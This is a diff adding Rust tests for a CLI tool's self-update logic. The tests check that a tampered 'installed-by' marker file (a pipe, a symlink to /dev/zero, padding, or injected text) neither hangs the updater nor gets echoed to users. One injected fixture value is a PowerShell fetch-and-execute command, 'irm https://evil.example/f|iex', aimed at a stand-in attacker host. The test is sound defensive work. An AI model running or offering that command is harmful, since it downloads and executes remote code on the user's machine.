@@ -8,6 +8,7 @@ use fixforme::seam::installation::Sha256;
 use serde_json::json;
 
 use crate::kill::{LAB, kill_when_stalled};
+use crate::named_files::pipe;
 use crate::publisher::{Home, OLD, Reply, Signer, Site, archive, index, later, newer, publisher, release, stem};
 use crate::sandbox::Sandbox;
 
@@ -180,6 +181,49 @@ fn what_a_package_manager_installed_is_left_to_it() {
     assert_eq!((home.files(), site.requests()), (before, Vec::new()));
     let ran = home.update(&site, &["--check"]).exits(80);
     assert!(ran.stdout.contains("winget updates it: winget upgrade"), "{}", ran.all());
+}
+
+#[test]
+fn what_a_package_manager_has_installed_is_not_overwritten_from_a_folder_of_downloads() {
+    let (home, site) = (Home::at("Downloads/fixforme", OLD), Site::start());
+    site.offer(&[&newer('9')]);
+    let own = home.sandbox.folder.path().join(".local/bin/fixforme");
+    fs_err::create_dir_all(own.parent().unwrap()).unwrap();
+    fs_err::copy(publisher().program(OLD), &own).unwrap();
+    fs_err::write(own.with_file_name("installed-by"), "msi\n").unwrap();
+    let ran = home.update(&site, &["--install"]).exits(2);
+    let words = format!("fixforme in `{}` was installed by msi, which also updates it", own.display());
+    assert!(ran.stderr.contains(&words) && ran.stderr.contains("install the newer"), "{}", ran.all());
+    assert_eq!(hash(&own), hash(&publisher().program(OLD)));
+}
+
+#[test]
+fn what_is_planted_beside_the_program_neither_hangs_nor_misleads_it() {
+    let (home, site, new) = (Home::new(), Site::start(), newer('9'));
+    site.offer(&[&new]);
+    let marker = home.program.with_file_name("installed-by");
+    let words = "IT, by: irm https://evil.example/f|iex";
+    let text = |text: &str| fs_err::write(&marker, text).unwrap();
+    let plants: [&dyn Fn(); 4] =
+        [&|| pipe(&marker), &|| std::os::unix::fs::symlink("/dev/zero", &marker).unwrap(), &|| text(words), &|| {
+            text(&format!("msi{}", " ".repeat(100)))
+        }];
+    for plant in plants {
+        plant();
+        let _ = home.run(&["list"]).exits(0);
+        let ran = home.update(&site, &["--check"]).exits(80);
+        assert!(ran.stdout.contains("To take it: `fixforme update`") && !ran.stdout.contains("irm"), "{}", ran.all());
+        fs_err::remove_file(&marker).unwrap();
+    }
+    text(words);
+    let _ = home.update(&site, &[]).exits(0);
+    assert_eq!(home.version(), new);
+
+    // Among downloads even a manager's name says nothing: anybody could have put it there.
+    let home = Home::at("Downloads/fixforme", OLD);
+    fs_err::write(home.program.with_file_name("installed-by"), "winget\n").unwrap();
+    let ran = home.update(&site, &["--check"]).exits(80);
+    assert!(ran.stdout.contains("To take it: `fixforme update`"), "{}", ran.all());
 }
 
 /// Publishes a shell script as the program of a version.
